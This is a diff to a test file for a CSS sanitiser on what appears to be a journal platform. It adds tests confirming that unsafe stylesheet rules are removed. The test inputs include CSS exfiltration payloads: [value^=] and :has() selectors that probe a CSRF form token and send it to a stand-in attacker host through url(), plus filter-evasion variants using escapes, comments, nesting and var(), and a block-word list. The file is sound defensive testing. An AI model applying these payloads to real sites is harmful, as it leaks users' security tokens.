@@ -208,15 +208,17 @@ describe('sanitizeCss', () => {
     assert.equal(normalizeCss(result.css), normalizeCss(css));
   });
 
-  test('safe urls, fonts and at-rules are kept', () => {
+  test('the journal’s own images, data: images, local fonts, harmless selectors and at-rules are kept', () => {
     const css = [
-      '.a { background: url("/files/bg.png") no-repeat, url(https://cdn.example/x.webp); }',
-      '.b { background-image: url(data:image/png;base64,iVBORw0KGgo=); }',
-      '@font-face { font-family: "Body"; src: url(/fonts/body.woff2) format("woff2"), url("https://fonts.example/b.woff") format("woff"); }',
+      '.a { background: url("/sm/theme/homepage?v=3") no-repeat, url(/sm/theme/logo); }',
+      '.b { background-image: url(data:image/png;base64,iVBORw0KGgo=); list-style-image: url( \'/sm/theme/favicon?v=12\' ); }',
+      '.c { background: image-set("/sm/theme/logo?v=1" 1x, url(data:image/webp;base64,UklGRg==) 2x); }',
+      '@font-face { font-family: "Body"; src: local("Source Serif 4"), local(Georgia); }',
       '@supports (display: grid) { .c { display: grid; grid-template-columns: repeat(2, 1fr); } }',
       '@keyframes fade { from { opacity: 0 } to { opacity: 1 } }',
       'html { scroll-behavior: smooth; }',
-      'a[href^="https:"]::after { content: "\\2197"; }',
+      'a[hreflang]::after, abbr[title]::after { content: "\\2197" attr(title); }',
+      ':lang(en) q, [lang|="en"] q, [dir=rtl] p, input[type="search" i], li:nth-child(2n+1):not(.x) { quotes: "“" "”"; }',
     ].join('\n');
     const result = sanitizeCss(css);
     assert.deepEqual(result.removed, []);
@@ -255,6 +257,44 @@ describe('sanitizeCss', () => {
         assert.ok(!lower.includes(word), `${JSON.stringify(result.css)} contains ${word}`);
       }
       assert.match(result.css, /color: red/, 'the harmless rest is kept');
+      assert.equal(sanitizeCss(result.css).css, result.css, 'stable when sanitised again');
+    });
+  }
+
+  // Issue 15, finding 12: a manager's CSS could read a page's form token and report it, or count downloads.
+  const LOADS_OR_READS = ['value', ':has', 'https:', 'download', 'attacker', 'files/', 'href^', 'image-set', 'src('];
+  // A custom property may hold any string; only its use in something that loads is refused.
+  const THROUGH_VAR = ['image-set', 'src(', 'var(--u)'];
+  const readingOrCounting: Array<[string, string, string[]?]> = [
+    ['the form token by :has() and [value^=]', 'form:has(input[name="_csrf"][value^="b"]) { background: url(https://attacker.example/b) }'],
+    ['the form token by [value^=] alone', 'input[name="_csrf"][value^="b"] { background: url(/sm/theme/logo?v=98) }'],
+    ['[value$=] inside :is()', ':is(input[value$="z"]) ~ button { background: url(/sm/theme/logo?v=26) }'],
+    ['[value*=] with a case flag, written VALUE', 'input[VALUE*=q i] { outline: 1px solid }'],
+    ['an escaped attribute name', 'input[v\\61lue^=a] { outline: 1px solid }'],
+    ['a comment in the attribute test', 'input[value/**/^=a] { outline: 1px solid }'],
+    ['a nested rule', 'form { color: red; & input[value^="a"] { outline: 1px solid } }'],
+    ['[href^=], which can hold a token', 'a[href^="/user/email/confirm?token=a"] { outline: 1px solid }'],
+    [':has() without an attribute test', 'body:has(.account-menu__admin) { outline: 1px solid }'],
+    ['@scope with :has()', '@scope (form:has(input[value^=a])) { p { outline: 1px solid } }'],
+    ['an external image', '.a { background: url(https://cdn.example/x.webp) }'],
+    ['an external font', '@font-face { font-family: X; src: url("https://fonts.example/b.woff") format("woff"); }'],
+    ['a galley download', '.a { background: url(/sm/article/download/1786/1) }'],
+    ['a relative address', '.a { background: url(article/download/1786/1) }'],
+    ['a path out of the theme', '.a { background: url(/sm/theme/logo/../../article/download/1786/1) }'],
+    ['an escaped parenthesis', '.a { background: url(/sm/theme/logo\\)/../../article/download/1786/1) }'],
+    ['a comment inside url()', '.a { background: url(/sm/theme/lo/*/../../../article/download/1786/1/*/go) }'],
+    ['a site path', '.a { background: url("/files/bg.png") }'],
+    ['image-set through var()', ':root { --u: "https://attacker.example/a"; } .a { background: image-set(var(--u) 1x) }', THROUGH_VAR],
+    ['src() through var()', ':root { --u: "/sm/article/download/1786/1"; } .a { background: src(var(--u)) }', THROUGH_VAR],
+  ];
+  for (const [name, css, words = LOADS_OR_READS] of readingOrCounting) {
+    test(`removes what could read a page or count a download: ${name}`, () => {
+      const result = sanitizeCss(`${css}\n.kept { color: red }`);
+      assert.ok(result.removed.length > 0, `nothing removed from ${css}`);
+      for (const word of words) {
+        assert.ok(!result.css.toLowerCase().includes(word), `${JSON.stringify(result.css)} contains ${word}`);
+      }
+      assert.match(result.css, /\.kept \{ color: red \}/, 'the harmless rest is kept');
       assert.equal(sanitizeCss(result.css).css, result.css, 'stable when sanitised again');
     });
   }
